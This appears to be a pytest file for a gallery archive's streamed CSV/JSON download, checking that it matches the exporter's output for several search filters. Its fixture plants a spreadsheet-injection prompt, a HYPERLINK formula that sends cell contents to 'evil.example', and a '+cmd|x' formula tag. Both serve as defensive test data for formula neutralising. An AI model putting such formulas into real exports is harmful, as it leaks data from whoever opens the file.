"""Download this view: the export of the current search, streamed.

The bytes are compared with `export_archive`'s for the same filters, so the
download follows whatever the CSV writer does (formula neutralising included).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest
from tests.support.archive_builder import ArchiveBuilder, TagRow

from civitai_vault.archive import open_archive
from civitai_vault.export.exporter import export_archive
from civitai_vault.web.params import SearchParams
from civitai_vault.web.server import running_gallery

FORMULA_PROMPT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
IMAGES = 1_500  # several chunks of the stream


@pytest.fixture(scope="module")
def gallery(tmp_path_factory: pytest.TempPathFactory):
    path: Path = tmp_path_factory.mktemp("download") / "archive"
    builder = ArchiveBuilder(path)
    for image_id in range(1, IMAGES + 1):
        builder.image(
            image_id,
            type="image",
            created_at=f"2024-01-01T00:{image_id // 60 % 60:02d}:{image_id % 60:02d}+00:00",
            prompt=FORMULA_PROMPT if image_id == 7 else f"a castle, number {image_id}",
            author="@mallory" if image_id == 7 else "alice",
            nsfw_level=8 if image_id % 3 == 0 else 1,
            tags=[TagRow(1, "+cmd|x", 0.5)],
            raw={},
        )
    builder.build()
    with running_gallery(path) as url, httpx.Client(base_url=url, timeout=60) as client:
        yield client, path


def exported(path: Path, params: SearchParams, fmt: str) -> bytes:
    out = io.BytesIO()
    with open_archive(path, create=False, reading=True) as archive:
        export_archive(archive.conn, params.to_filter(), fmt, None, stdout=out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("query", [{}, {"nsfw": ["8"]}, {"q": "castle -number"}])
def test_the_download_is_the_export_of_the_search(gallery, fmt, query):
    client, path = gallery
    answer = client.get(f"/download.{fmt}", params=query)
    assert answer.status_code == 200
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.content == exported(path, SearchParams(**query), fmt)


def test_every_record_arrives_once(gallery):
    client, _ = gallery
    records = json.loads(client.get("/download.json").content)
    assert sorted(r["image_id"] for r in records) == list(range(1, IMAGES + 1))
    rows = list(csv.DictReader(io.StringIO(client.get("/download.csv").text)))
    assert len(rows) == IMAGES
